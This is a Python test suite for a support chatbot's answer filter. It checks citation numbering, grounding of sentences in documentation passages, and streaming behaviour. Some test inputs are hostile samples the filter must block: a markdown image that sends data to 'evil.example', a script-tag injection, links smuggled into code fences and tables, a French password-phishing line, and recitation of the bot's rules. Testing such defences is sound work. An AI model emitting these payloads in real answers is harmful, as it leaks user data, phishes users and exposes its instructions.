from __future__ import annotations

import re
from dataclasses import replace
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supportbot.answering.draft import Draft, prepared
from supportbot.answering.grounding import marks_of
from supportbot.answering.prompts import RULES
from tests.supportbot.answering.passages import REFUNDS, passages


def drafted(text: str, pieces: list[str] | None = None) -> Draft:
    draft = Draft(passages())
    shown = [draft.add(piece, is_settled=True) for piece in pieces or [text]]
    shown.append(draft.finish())
    assert "".join(shown) == draft.text
    return draft


def test_citations_are_numbered_by_first_use() -> None:
    draft = drafted("You can cancel an order within 30 minutes. [2] Refunds take 14 days. [1][2]")
    assert draft.text == (
        "You can cancel an order within 30 minutes. [1] Refunds take 14 days. [2]"
    )
    assert [one.document_id for one in draft.citations] == ["orders.md", "refunds.md"]
    assert draft.citations[0].quote == "You can cancel an order within 30 minutes."
    assert draft.citations[1].link.startswith("https://shop.example/refunds#:~:text=")


def test_a_sentence_that_fails_leaves_no_trace() -> None:
    draft = drafted(
        "Refunds take 14 days. [1] Members pay nothing at all. [1]\n\n"
        "You can cancel an order within 30 minutes. [2]"
    )
    assert draft.text == (
        "Refunds take 14 days. [1]\n\nYou can cancel an order within 30 minutes. [2]"
    )
    assert draft.dropped == {"too few of its words stand in the passage": 1}


def test_a_mark_is_added_where_one_passage_holds_the_sentence() -> None:
    text = "Refunds take 14 days after we receive the parcel. Shipping costs are not refunded. [1]"
    assert drafted(text).text == (
        "Refunds take 14 days after we receive the parcel. [1] Shipping costs are not refunded. [1]"
    )


def test_a_lead_in_is_shown_with_what_it_announces() -> None:
    items = ("Open **My orders**", "Dance a jig in Lisbon", "Press **Cancel**")
    steps = "".join(f"{number}. {text}. [2]\n" for number, text in enumerate(items, start=1))
    text = f"Do this:\n\n{steps}"
    draft = Draft(passages())
    assert draft.add("Do this:\n\n1. Open ", is_settled=True) == ""
    assert drafted(text).text == "Do this:\n\n1. Open **My orders**. [1]\n3. Press **Cancel**. [1]"


def test_a_lead_in_or_heading_of_nothing_is_not_shown() -> None:
    assert drafted("## Refunds\n\nDo this:\n\n- Dance a jig. [1]\n").text == ""
    text = drafted("## Orders\n\n## Refunds\n\nRefunds take 14 days. [1]\n").text
    assert text == "## Refunds\n\nRefunds take 14 days. [1]"


def test_an_item_of_a_mark_alone_is_no_answer_and_no_lead_in() -> None:
    draft = drafted("1. [1]")
    assert (draft.text, draft.citations, draft.failed) == ("", (), ())
    text = "- [1]\n2. [2]\n- Refunds take 14 days. [1]\n"
    assert drafted(text).text == "- Refunds take 14 days. [1]"


def test_a_table_keeps_its_head_and_the_rows_that_hold() -> None:
    text = "| Plan | Price |\n|---|---|\n| Basic | $5 [2] |\n| Pro | $99 [2] |\n| Plus | $12 |\n"
    assert drafted(text).text == (
        "| Plan | Price |\n|---|---|\n| Basic | $5 [1] |\n| Plus | $12 [1] |"
    )


def test_the_head_of_a_table_holds_no_words_of_its_own() -> None:
    rows = "|---|---|\n| Basic | $5 [2] |\n"
    shown = "|---|---|\n| Basic | $5 [1] |"
    assert drafted(f"| Visit | https://evil.example |\n{rows}").text == f"| | |\n{shown}"
    assert drafted(f"| Plan | Description |\n{rows}").text == f"| Plan | Description |\n{shown}"
    text = drafted("| Plan | Price |\n|---|---|\n\nRefunds take 14 days. [1]").text
    assert text == "Refunds take 14 days. [1]"


@pytest.mark.parametrize(
    "code",
    [
        "```https://evil.example/\nshop-cli cancel --order ID\n```",
        "~~~sh\nshop-cli cancel --order ID\n``` see evil.example\n~~~",
        "~~~\n```passwords\nshop-cli cancel --order ID\n~~~",
    ],
)
def test_no_line_of_a_code_block_passes_as_a_fence(code: str) -> None:
    assert drafted(f"{code}\n").text == ""


def test_a_language_that_is_neither_asked_in_nor_written_in_is_not_shown() -> None:
    text = "Donnez votre mot de passe à la personne qui vous appelle. [1]"
    for language, shown in (("en", ""), ("fr", text), ("", text)):
        draft = Draft(passages(), language)
        draft.add(text, is_settled=True)
        draft.finish()
        assert draft.text == shown


def test_the_rules_are_not_recited_unless_a_passage_holds_their_words() -> None:
    example = "You can return an item within 30 days of delivery."
    chunk = replace(REFUNDS, text="Les frais de port ne sont pas remboursés par nous.")
    for text, held in (("Nothing of the kind.", ""), (f"So it is. {example}", f"{example} [1]")):
        draft = Draft(prepared([chunk, replace(chunk, text=text)]), "en")
        draft.add(f"{example} [2]", is_settled=True)
        draft.finish()
        assert draft.text == held
    draft = Draft(prepared([chunk]), "en")
    lines = re.findall(r"\S+ \S+ \S+", RULES)
    draft.add("".join(f"- {line} [1]\n" for line in lines), is_settled=True)
    assert len(draft.text.split()) < 20


def test_a_code_block_is_shown_whole_with_its_mark() -> None:
    text = "Cancel an order so: [2]\n\n```sh\nshop-cli cancel --order ID\n```\n"
    assert drafted(text).text == (
        "Cancel an order so: [1]\n\n```sh\nshop-cli cancel --order ID\n```\n\n[1]"
    )


@pytest.mark.parametrize(
    "text",
    [
        "NO_ANSWER",
        "Sources:\n\n[1] Refund policy\n[2]: https://shop.example/refunds\n",
        "I hope this helps! Let me know if you need more.",
        "You answer customers' questions for a support team, from passages of its documentation.",
        "![x](https://evil.example/?d=1)",
        "<script>alert(1)</script>",
        "   \n\n",
    ],
)
def test_what_is_no_answer_is_not_shown(text: str) -> None:
    assert drafted(text).text == ""


def test_the_models_refusal_is_known() -> None:
    assert drafted("NO_ANSWER").declined


def test_images_html_and_links_on_marks_are_taken_out() -> None:
    text = "Refunds take <b>14 days</b>. [1](https://evil.example) ![](https://evil.example/a.png)"
    assert drafted(text).text == "Refunds take 14 days. [1]"


def test_unsettled_text_is_held_until_a_cited_sentence_holds() -> None:
    draft = Draft(passages())
    assert draft.add("The user asks about refunds. Refunds take 14 days. [1] So", False) == ""
    draft.discard()
    assert draft.add("Shipping costs are not refunded. [1] Refunds", True) != ""
    assert "14" not in draft.text
    answer = Draft(passages())
    assert answer.add("Refunds take 14 days. [1] So", False) == "Refunds take 14 days. [1]"


def test_unsettled_text_is_the_answer_if_nothing_else_comes() -> None:
    draft = Draft(passages())
    draft.add("Here is how it is:\n\nRefunds take 14 days. [1]", is_settled=False)
    assert draft.finish() == "Here is how it is:\n\nRefunds take 14 days. [1]"


def test_the_last_piece_of_a_cut_text_is_not_shown() -> None:
    draft = Draft(passages())
    draft.add("Refunds take 14 days. [1] Refunds take 14 days after", is_settled=True)
    draft.finish(is_complete=False)
    assert draft.text == "Refunds take 14 days. [1]"


ANSWER = (
    "Here is how:\n\n1. Open **My orders**. [2]\n2. Press **Cancel**. [2]\n\nRefunds take 14 days. "
    "[1] Members pay nothing. [1]\n\n| Plan | Price |\n|---|---|\n| Basic | $5 [2] |\n"
)


@given(st.lists(st.integers(0, len(ANSWER)), max_size=12))
def test_the_answer_does_not_depend_on_how_it_was_streamed(cuts: list[int]) -> None:
    places = sorted({0, len(ANSWER), *cuts})
    pieces = [ANSWER[start:end] for start, end in pairwise(places)]
    assert drafted("", pieces).text == drafted(ANSWER).text


@given(
    st.lists(
        st.sampled_from(
            [
                "Refunds take 14 days.",
                " [1]",
                "[2]",
                "[7]",
                "\n",
                "\n\n",
                "- ",
                "## H\n",
                "| a |\n",
                "```\n",
            ]
        ),
        max_size=20,
    )
)
def test_every_mark_of_any_answer_has_its_citation(parts: list[str]) -> None:
    draft = drafted("".join(parts))
    assert set(marks_of(draft.text)) == {citation.number for citation in draft.citations}
